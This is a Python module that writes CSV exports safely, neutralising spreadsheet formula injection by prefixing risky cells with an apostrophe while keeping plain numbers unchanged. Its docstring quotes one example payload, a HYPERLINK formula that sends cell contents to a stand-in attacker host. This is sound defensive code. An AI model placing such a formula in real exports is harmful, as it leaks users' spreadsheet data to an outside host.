"""The one CSV writer of every export (issue 7, C10): no formula injection.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return followed by one) as a formula: an idea titled
``=HYPERLINK("https://evil.example/?"&A1)`` would run on the official's computer.
Every text cell that starts with one of those characters gets a leading ``'``, the
spreadsheet convention for "this is text".

Numbers stay numbers: ``int``, ``float`` and ``Decimal`` values are written as they are,
and so is text that is nothing but a number (``-12.50``, ``+31``, ``-1,5``), because that
cannot be a formula and must stay summable.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import IO, Any, Final

__all__ = ["DictWriter", "Writer", "safe_cell", "writer"]

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)*|[.,]\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` as it may go into a spreadsheet cell (see the module docstring)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


class Writer:
    """``csv.writer`` whose rows pass through :func:`safe_cell`."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: IO[str], **options: Any) -> Writer:
    return Writer(out, **options)


class DictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """``csv.DictWriter`` whose values (and header) pass through :func:`safe_cell`."""

    def __init__(self, out: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
        super().__init__(out, fieldnames, **options)
        self.writer = Writer(out, **{k: v for k, v in options.items() if k not in _DICT_ONLY})


_DICT_ONLY: Final = frozenset({"restval", "extrasaction"})
